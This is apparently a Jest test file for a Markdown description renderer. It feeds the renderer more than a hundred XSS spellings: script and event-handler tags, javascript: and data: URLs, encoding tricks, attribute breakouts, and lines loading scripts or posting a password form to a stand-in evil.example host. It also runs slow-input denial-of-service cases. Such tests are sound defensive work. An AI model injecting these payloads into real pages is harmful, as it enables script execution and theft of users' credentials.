import { describe, expect, it } from '@jest/globals';
import { injections } from '../../../../tests/injection/corpus.ts';
import { renderDescription } from './description.ts';

const script = '<script>alert(1)</script>';

/** Markup that browsers have run, and spellings that got it past filters. */
const markup = [
  script,
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="x`" onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert&#40;1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext></p><style><img src onerror=alert(1)></style></mtext></math>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src=javascript:alert(1)>',
  '<object data="data:text/html,<script>alert(1)</script>">',
  '<embed src=javascript:alert(1)>',
  '<base href=https://evil.example/>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>*{background:url(//evil.example)}</style>',
  '<form action=https://evil.example><input name=password></form>',
  '<button formaction=javascript:alert(1)>x</button>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<a href=javascript:alert(1)>x</a>',
  '<a href="java&#9;script:alert(1)">x</a>',
  '<div style="position:fixed;inset:0">x</div>',
  '<p onclick=alert(1)>x',
  '<!--><script>alert(1)</script>-->',
  '<!-- --!><script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<!DOCTYPE html><script>alert(1)</script>',
  '</p></article></main><script>alert(1)</script>',
  '</textarea></title></style></script><script>alert(1)</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<x/onpointerrawupdate=alert(1)>',
  '<a\u000bhref=javascript:alert(1)>x</a>',
  '<\u0000script>alert(1)</script>'.replace('\u0000', ''),
  '＜script＞alert(1)＜/script＞',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '&#x3C;svg onload=alert(1)&#x3E;',
  '\\<script>alert(1)\\</script>',
  `\`${script}`,
  `\`\`\`\n${script}`,
  `\`\`\`"><script>alert(1)</script>\nx\n\`\`\``,
  '```x" onmouseover="alert(1)\ncode\n```',
  `    ${script}`,
  `- ${script}`,
  `> ${script}`,
  `# ${script}`,
  `1. ${script}\n   <img src=x onerror=alert(1)>`,
  `| a | b |\n|---|---|\n| ${script} | x |`,
];

/** Addresses that are no link of the web, as browsers would still take them. */
const addresses = [
  'javascript:alert(1)',
  'JavaScript:alert(1)',
  'javascript&#58;alert(1)',
  'javascript&colon;alert(1)',
  'java&Tab;script:alert(1)',
  'java&NewLine;script:alert(1)',
  '&#x6A;avascript:alert(1)',
  '&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58&#97',
  'javascript\\:alert(1)',
  '\\javascript:alert(1)',
  'javascript://example.com/%0Aalert(1)',
  'javascript:https://example.com',
  'https&colon;javascript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'file:///etc/passwd',
  'blob:https://example.com/x',
  'about:blank',
  'view-source:https://example.com',
  'intent://x#Intent;end',
  '\u0001javascript:alert(1)',
  '%6Aavascript:alert(1)',
  '\ufeffjavascript:alert(1)',
  '//evil.example',
  '/\\evil.example',
  '\\\\evil.example',
  'mailto',
  'https:/evil.example',
  'http:evil.example',
  'https:javascript:alert(1)',
];

/** Ways in which Markdown makes a link or an image of an address. */
const links = [
  ...addresses.map((address) => `[x](${address})`),
  ...addresses.slice(0, 12).map((address) => `[x](<${address}>)`),
  ...addresses.slice(0, 12).map((address) => `<${address}>`),
  ...addresses.slice(0, 8).map((address) => `[x]\n\n[x]: ${address}`),
  ...addresses.slice(0, 8).map((address) => `![x](${address})`),
];

/** Links of the web that try to leave their attribute. */
const attributes = [
  '[x](https://example.com/"onmouseover="alert(1))',
  "[x](https://example.com/'onmouseover='alert(1))",
  '[x](https://example.com "\\" onmouseover=\\"alert(1)")',
  '[x](https://example.com \'a" onmouseover="alert(1)\')',
  '[x](https://example.com (a" onmouseover="alert(1)))',
  '[x](<https://example.com/ onmouseover=alert(1)>)',
  '<https://example.com/"onmouseover="alert(1)>',
  '<https://example.com/\\"onmouseover=alert(1)>',
  `[${script}](https://example.com)`,
  '[<img src=x onerror=alert(1)>](https://example.com)',
  `[x]\n\n[x]: https://example.com "${script}"`,
  '[x](https://example.com/&quot;onmouseover=&quot;alert(1))',
  '[x](mailto:a@b.c?subject=x"onmouseover="alert(1))',
  '[a](https://e.example "t\u2028" )<b onclick=x>',
  '[![x](javascript:alert(1))](javascript:alert(2))',
  '[x](https://example.com)[y](javascript:alert(1))',
];

const corpus = [...markup, ...links, ...attributes, ...injections];

/** The whole of what a rendering may be made of; an attribute's value ends at its quote. */
const allowed = new RegExp(
  [
    '</?(?:p|em|strong|code|pre|ul|ol|li|blockquote|h[3-6]|a)>',
    '<(?:br|hr) />',
    '<ol start="\\d+">',
    '<code class="language-[^"<>]*">',
    '<a href="(?:https?://|mailto:)[^"<>\\s]*"(?: title="[^"<>]*")?>',
  ].join('|'),
  'gi',
);

describe('a hostile description', () => {
  it('has more than a hundred spellings here', () => {
    expect(new Set(corpus).size).toBeGreaterThan(100);
  });

  it.each(corpus)('renders harmless: %j', (text) => {
    for (const description of [text, `Before ${text} after`, `${text}\n\n${text}`, `* ${text}`]) {
      const html = renderDescription(description);
      // What is left besides the elements above is text.
      expect(html.replace(allowed, '')).not.toMatch(/[<>]/);
    }
  });

  it.each([
    ['brackets', '['.repeat(20_000)],
    ['closed brackets', '[a]('.repeat(5000)],
    ['emphasis', '*a _b '.repeat(3300)],
    ['delimiters', '*_'.repeat(10_000)],
    ['quotes', '> '.repeat(10_000)],
    ['lists', '- '.repeat(10_000)],
    ['backticks', Array.from({ length: 195 }, (_, n) => '`'.repeat(n)).join(' ')],
    ['entities', '&#'.repeat(10_000)],
    ['tags', '<a '.repeat(6600)],
    ['comments', '<!--'.repeat(5000)],
    ['autolinks', '<https://'.repeat(2200)],
    ['references', '[a]: <\n'.repeat(2800)],
    ['titles', '[a](https://b "'.repeat(1300)],
    ['headings', '# a\n'.repeat(5000)],
    ['rules', '*\t'.repeat(10_000)],
  ])('of 20,000 characters keeps nobody waiting: %s', (_case, description) => {
    const startedAt = performance.now();
    renderDescription(description);
    expect(performance.now() - startedAt).toBeLessThan(1000);
  });
});
